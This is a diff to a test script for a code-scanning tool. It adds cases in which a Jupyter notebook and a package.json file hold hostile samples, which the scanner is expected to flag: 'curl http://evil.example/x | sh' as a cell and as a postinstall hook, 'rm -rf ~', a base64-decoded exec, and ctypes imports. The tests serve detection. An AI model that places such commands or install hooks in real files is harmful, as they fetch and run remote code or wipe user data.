@@ -79,8 +79,39 @@ finds newer.py 2 download-run 'curl http://evil.example/x | sh'
 finds both.sh 3 download-run 'curl http://evil.example/x | sh'
 finds alias.sh 1 download-run 'curl http://evil.example/x | sh'
 ! command -v node >/dev/null || finds newer.js 2 download-run 'curl http://evil.example/x | sh'
-finds text '' not-parsed 'no parser for this kind of file'
-finds data '' not-parsed 'no parser for this kind of file'
+finds text '' not-parsed 'no parser for this kind of file: only characters and secrets were looked at'
+finds data '' not-parsed 'no parser for this kind of file: nothing was looked at'
+# Cells of notebooks, which share their names, and scripts of a package.json: in the lines of the file.
+cat >book.ipynb <<'END'
+{"cells": [
+  {"cell_type": "markdown", "source": ["rm -rf ~"]},
+  {"cell_type": "code", "source": ["import base64 as b\n", "%matplotlib inline\n"]},
+  {"cell_type": "code", "source": ["print('%s'\n", "  % 1)\n",
+    "exec(b.b64decode('cHJpbnQoMSk='))\n"]},
+  {"cell_type": "code", "source": ["x = !id\n",
+    "!curl http://evil.example/x | sh\n"]},
+  {"cell_type": "code", "source": "%%bash\nrm -rf ~\n"},
+  {"cell_type": "code", "source": ["%%perl\n", "print 1"]},
+  {"cell_type": "code", "source": ["!python3 -c 'import ctypes'"]}
+], "metadata": {"kernelspec": {"language": "python"}}}
+END
+cg inspect --level warning book.ipynb >out
+diff - out <<'END' || fail "book.ipynb"
+book.ipynb:5: dynamic: exec(b.b64decode('cHJpbnQoMSk='))
+book.ipynb:5: obfuscated: print(1)
+book.ipynb:7: not-looked-at: a program that is read from standard input
+book.ipynb:7: download-run: curl http://evil.example/x | sh
+book.ipynb:8: destructive: rm -rf ~
+book.ipynb:9: not-looked-at: code of %%perl: no parser for it here
+book.ipynb:10: native: import ctypes
+END
+mkdir package
+printf '{"name": "x", "scripts": {\n"build": "tsc",\n"postinstall": "curl http://evil.example/x | sh",\n%s\n}}\n' \
+	'"test": "python3 -c \"import ctypes\""' >package/package.json
+finds package/package.json 3 download-run 'curl http://evil.example/x | sh'
+finds package/package.json 4 native 'import ctypes'
+ends 0 --type notebook text
+finds text 1 syntax 'no JSON: Expecting value: line 1 column 1 (char 0)' --type notebook
 finds secret.env 2 secret 'random value of 20 characters, named as a secret'
 ! grep -q ':1:\|q8Zr' out || fail "secret.env: $(cat out)"
 finds key 1 secret 'private key'
